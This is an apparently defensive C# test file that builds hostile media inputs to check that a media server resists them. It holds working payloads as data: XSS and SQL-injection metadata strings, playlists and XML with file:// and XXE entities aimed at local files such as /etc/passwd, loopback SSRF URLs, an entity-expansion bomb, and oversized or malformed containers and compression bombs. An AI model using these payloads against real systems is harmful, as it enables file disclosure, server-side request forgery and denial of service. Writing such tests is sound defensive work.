using Kinora.Media.Tests.Infrastructure;
using static Kinora.Media.Tests.Hostile.HostileBoxes;
using static Kinora.Media.Tests.Hostile.HostileElements;

namespace Kinora.Media.Tests.Hostile;

/// <summary>What a hostile file is to lure a server to: a file that it should not read, a port that it should not connect to.</summary>
/// <param name="File">Absolute path.</param>
/// <param name="Port">On loopback. Five digits, as in the corpus.</param>
public sealed record Lure(string File, int Port)
{
    public string Url => $"http://127.0.0.1:{Port}";
}

/// <summary>A file that tries to make a careless server read its own files, connect somewhere, run what is in it, or fall over. All of it is made here and harmless by itself.</summary>
/// <param name="IsVideo">Odd, but it holds pictures or sound, and playing it harms nobody.</param>
public sealed record HostileFile(string Name, Func<Lure, Task<byte[]>> MakeAsync, bool IsVideo = false)
{
    private const string Script = "\"><img src=x onerror=alert(1)><script>alert(document.domain)</script>";
    private const string Svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='640' height='360'>";

    // Where the files of the corpus want to connect to.
    private const string CorpusPort = "18999";

    private static readonly HashSet<string> CorpusVideos = new(StringComparer.Ordinal)
    {
        "avi-gab2-playlist.avi", "metadata-xss.mp4", "mkv-nested-tags-5000.mkv", "mov-dref-url.mov", "mp4-duration-max.mp4", "mp4-edit-list-x1000.mp4",
        "mp4-one-frame-10h.mp4", "polyglot-html.mp4", "still-10h-10-frames.mp4",
    };

    /// <summary>All that are made in code.</summary>
    public static IReadOnlyList<HostileFile> Generated { get; } =
    [
        .. Texts().Select(t => new HostileFile(t.Name, lure => Task.FromResult(System.Text.Encoding.UTF8.GetBytes(t.Text(lure))))),
        .. Binaries().Select(b => new HostileFile(b.Name, lure => Task.FromResult(b.Bytes(lure)), b.IsVideo)),
        new("metadata-xss.mp4", _ => ClipAsync("-metadata", $"title={Script}", "-metadata", "artist='; DROP TABLE videos; --", "-metadata", "genre=" + new string('A', 100_000), "-metadata:s:v", $"handler_name={Script}"), IsVideo: true),
        new("polyglot-html.mp4", async _ => InsertAfterFileType(await ClipAsync(), Box("free", Text("<html><script>alert(document.domain)</script><plaintext>"))), IsVideo: true),
        new("16384-pixels-wide.mp4", _ => ClipAsync("-vf", "scale=16000:16")),
        new("30000-pictures-a-second.mp4", _ => ClipAsync("-vf", "scale=16:16,fps=30000", "-g", "100000", "-video_track_timescale", "30000")),
    ];

    /// <summary>The corpus, where this machine has it, led to the lure's port. Its files name /etc/passwd.</summary>
    public static IEnumerable<HostileFile> Corpus { get; } = [.. SharedMedia.In("hostile").Select(file => new HostileFile(Path.GetFileName(file), lure => CorpusAsync(file, lure), CorpusVideos.Contains(Path.GetFileName(file))))];

    private static IEnumerable<(string Name, Func<Lure, string> Text)> Texts()
    {
        yield return ("hls-file.mp4", l => Playlist($"file://{l.File}"));
        yield return ("hls-path.avi", l => "\r\n  " + Playlist(l.File));
        yield return ("hls-http.mp4", l => Playlist($"{l.Url}/a.ts"));
        yield return ("hls-concat.ts", l => Playlist($"concat:{l.Url}/header.m3u8|file://{l.File}"));
        yield return ("hls-subfile.mp4", l => Playlist($"subfile,,start,0,end,64,,:{l.File}"));
        yield return ("hls-key.mp4", l => $"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"file://{l.File}\"\n#EXTINF:1,\n{l.Url}/a.ts\n#EXT-X-ENDLIST\n");
        yield return ("hls-map.mp4", l => $"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MAP:URI=\"file://{l.File}\"\n#EXTINF:1,\ndata:video/mp4;base64,AAAA\n#EXT-X-ENDLIST\n");
        yield return ("hls-itself.m3u8", _ => "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls-itself.m3u8\n");
        yield return ("hls-spellings-of-loopback.m3u8", l => "#EXTM3U\n" + string.Concat(
            new[] { "localhost", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]", "127.1", "user@127.0.0.1" }.Select(h => $"#EXT-X-STREAM-INF:BANDWIDTH=1000\nhttp://{h}:{l.Port}/a.m3u8\n")));
        yield return ("hls-other-protocols.mp4", l => Playlist($"tcp://127.0.0.1:{l.Port}", $"gopher://127.0.0.1:{l.Port}/_PING", $"rtmp://127.0.0.1:{l.Port}/a", $"ftp://127.0.0.1:{l.Port}/x", "fd:3", "pipe:0"));
        yield return ("concat-file.mp4", l => $"ffconcat version 1.0\nfile '{l.File}'\n");
        yield return ("concat-http.mp4", l => $"ffconcat version 1.0\nfile '{l.Url}/a'\n");
        yield return ("sdp.mp4", l => $"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video {l.Port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n");
        yield return ("dash.mp4", l => $"<?xml version='1.0'?>\n<MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static'><Period><AdaptationSet mimeType='video/mp4'><Representation id='1' bandwidth='1'><BaseURL>{l.Url}/</BaseURL><BaseURL>file://{l.File}</BaseURL></Representation></AdaptationSet></Period></MPD>");
        yield return ("dash-xxe.mpd", l => $"<?xml version='1.0'?>\n<!DOCTYPE MPD [<!ENTITY x SYSTEM 'file://{l.File}'><!ENTITY y SYSTEM '{l.Url}/x'>]>\n<MPD xmlns='urn:mpeg:dash:schema:mpd:2011'><BaseURL>&x;&y;</BaseURL></MPD>");
        yield return ("asx.wmv", l => $"<asx version='3.0'><entry><ref href='{l.Url}/a'/></entry></asx>");
        yield return ("reference.asf", l => $"[Reference]\r\nRef1={l.Url}/a?MSWMExt=.asf\r\n");
        yield return ("avisynth.avi", l => $"DirectShowSource(\"{l.File}\")\nVersion()\n");
        yield return ("page.mp4", l => $"<!doctype html><title>x</title><script>alert(document.domain)</script><img src='{l.Url}/a'>");
        yield return ("svg-links.jpg", l => $"<?xml version='1.0'?>{Svg}<image xlink:href='{l.Url}/a'/><image xlink:href='file://{l.File}'/><script>alert(1)</script></svg>");
        yield return ("svg-xxe.svg", l => $"<?xml version='1.0'?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{l.File}'><!ENTITY % p SYSTEM '{l.Url}/a.dtd'> %p;]>\n{Svg}<text y='20'>&x;</text></svg>");
        yield return ("svg-laughs.svg", _ => "<?xml version='1.0'?>\n<!DOCTYPE svg [<!ENTITY a0 'lol'>" + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY a{i} '{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}'>")) + $"]>\n{Svg}<text>&a9;</text></svg>");
        yield return ("subtitles-xss.vtt", l => $"WEBVTT\n\nSTYLE\n::cue {{ background-image: url({l.Url}/a) }}\n\n1{Script}\n00:00.000 --> 00:10.000\n{Script}\n");
        yield return ("subtitles-xss.srt", _ => $"1\n00:00:00,000 --> 00:00:10,000\n{Script}\n");
        yield return ("subtitles-xxe.ttml", l => $"<?xml version='1.0'?>\n<!DOCTYPE tt [<!ENTITY x SYSTEM 'file://{l.File}'>]>\n<tt xmlns='http://www.w3.org/ns/ttml'><body><div><p begin='0s' end='9s'>&x;</p></div></body></tt>");
    }

    private static IEnumerable<(string Name, Func<Lure, byte[]> Bytes, bool IsVideo)> Binaries()
    {
        yield return ("utf16.mp4", _ => [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("#EXTM3U\n")], false);
        yield return ("rmra.mov", l => Box("moov", Box("rmra", Box("rmda", Full("rdrf", 0, 0, Text("url "), Big((uint)l.Url.Length + 3), Text(l.Url + "/a\0"))))), false);
        yield return ("dref-url.mov", l => Movie(Table(), references: Full("dref", 0, 0, Big(1), Full("url ", 0, 0, Text($"file://{l.File}\0")))), true);
        yield return ("dref-http.mov", l => Movie(Table(), references: Full("dref", 0, 0, Big(1), Full("url ", 0, 0, Text($"{l.Url}/a\0")))), true);
        yield return ("box-of-2-to-the-63.mp4", _ => Join(FileType, Big(1), Text("moov"), Long((1UL << 63) + 5), new byte[64]), false);
        yield return ("boxes-of-size-zero.mp4", _ => Join([FileType, .. Enumerable.Repeat(Join(Big(0), Text("free")), 2000)]), false);
        yield return ("20000-free-boxes.mp4", _ => Join([FileType, .. Enumerable.Repeat(Box("free"), 20_000)]), false);
        yield return ("10000-nested-boxes.mp4", _ => Nested(10_000), false);
        yield return ("268-million-samples.mp4", _ => Movie(Table(count: 0x0FFFFFFF, size: 1, delta: 1), duration: 0x0FFFFFFF), false);
        yield return ("4-billion-entries.mp4", _ => Movie(Join(Table(), Full("ctts", 0, 0, Big(uint.MaxValue)), Full("stss", 0, 0, Big(uint.MaxValue)))), false);
        yield return ("sample-of-4-gigabytes.mp4", _ => Movie(Table(size: 0xFFFFFFF0)), false);
        yield return ("65535-pixels.mp4", _ => Movie(Table(width: 65535, height: 65535)), false);
        yield return ("1000-edits.mp4", _ => Movie(Table(), edits: Edits(1000)), true);
        yield return ("longest-duration.mp4", _ => Movie(Table(), movieDuration: ulong.MaxValue - 1), true);
        yield return ("23-days.mp4", _ => Movie(Table(delta: 2_000_000_000), duration: 2_000_000_000), false);
        yield return ("500-tracks.mp4", _ => HostileBoxes.Tracks(500), false);
        yield return ("void-of-2-to-the-56.mkv", _ => Segment(Info(double.NaN), Claiming(0xEC, (1UL << 56) - 2), HostileElements.Tracks(1UL << 31), Cluster(0)), false);
        yield return ("codec-private-of-1-gigabyte.mkv", _ => Segment(Info(), HostileElements.Tracks(extra: Claiming(0x63A2, 1 << 30))), false);
        yield return ("endless-times.mkv", _ => Segment(Info(double.PositiveInfinity), HostileElements.Tracks(), Cluster(1UL << 62, short.MaxValue), Cluster(0, short.MinValue), Cluster(ulong.MaxValue), Cluster(5, -6), Cluster(1UL << 40, 1)), false);
        yield return ("2000-nested-tags.mkv", _ => Segment(Info(), NestedTags(2000), HostileElements.Tracks(), Cluster(0)), true);
        yield return ("lacing.mkv", _ => Segment(
            Info(), HostileElements.Tracks(), Element(0x1F43B675, Number(0xE7, 0), Block(0, [.. Enumerable.Repeat((byte)255, 2001), .. new byte[64]], 0x82), Block(0, [255, 0x4A, 0, .. Enumerable.Repeat((byte)0x80, 254), .. new byte[64]], 0x86), Block(0, [255, .. new byte[7]], 0x84))), false);
        yield return ("header-only.webm", _ => [0x1A, 0x45, 0xDF, 0xA3, 1, .. Enumerable.Repeat((byte)255, 7)], false);
        yield return ("playlist-as-subtitles.avi", l => HostilePictures.Avi(16, HostilePictures.Gab2(Playlist($"file://{l.File}", $"{l.Url}/a.ts"))), true);
        yield return ("60000-pixels.avi", _ => HostilePictures.Avi(60_000), false);
        yield return ("65535-pixels.gif", _ => HostilePictures.Gif(65535), false);
        yield return ("30000-pixels.png", _ => HostilePictures.Png(30_000, animated: false), false);
        yield return ("30000-pixels.apng", _ => HostilePictures.Png(30_000, animated: true), false);
        yield return ("65535-channels.wav", _ => HostilePictures.WavOf65535Channels(), false);
        yield return ("tag-of-256-megabytes.mp3", _ => Join(Text("ID3\u0004\0\0\u007F\u007F\u007F\u007FAPIC\u007F\u007F\u007F\u0070\0\0\0image/png\0\u0003\0"), new byte[64]), false);
        yield return ("256-megabytes.mp4.gz", _ => HostilePictures.GzipOf(256), false);
        yield return ("bomb.mp4", _ => HostilePictures.Zip(), false);
    }

    private static string Playlist(params string[] segments) => "#EXTM3U\n#EXT-X-TARGETDURATION:1\n" + string.Concat(segments.Select(s => $"#EXTINF:1,\n{s}\n")) + "#EXT-X-ENDLIST\n";

    private static async Task<byte[]> ClipAsync(params string[] arguments)
    {
        var path = TestMedia.NewPath(".mp4");
        await Ffmpeg.RunAsync(["-f", "lavfi", "-i", "color=c=navy:size=64x36:rate=5:duration=1", .. arguments, "-c:v", "libx264", "-preset", "ultrafast", "-movflags", "+use_metadata_tags", path]);
        return await File.ReadAllBytesAsync(path);
    }

    private static async Task<byte[]> CorpusAsync(string file, Lure lure)
    {
        var bytes = await File.ReadAllBytesAsync(SharedMedia.PathOf(file));
        return System.Text.Encoding.Latin1.GetBytes(System.Text.Encoding.Latin1.GetString(bytes).Replace(CorpusPort, $"{lure.Port}", StringComparison.Ordinal));
    }
}
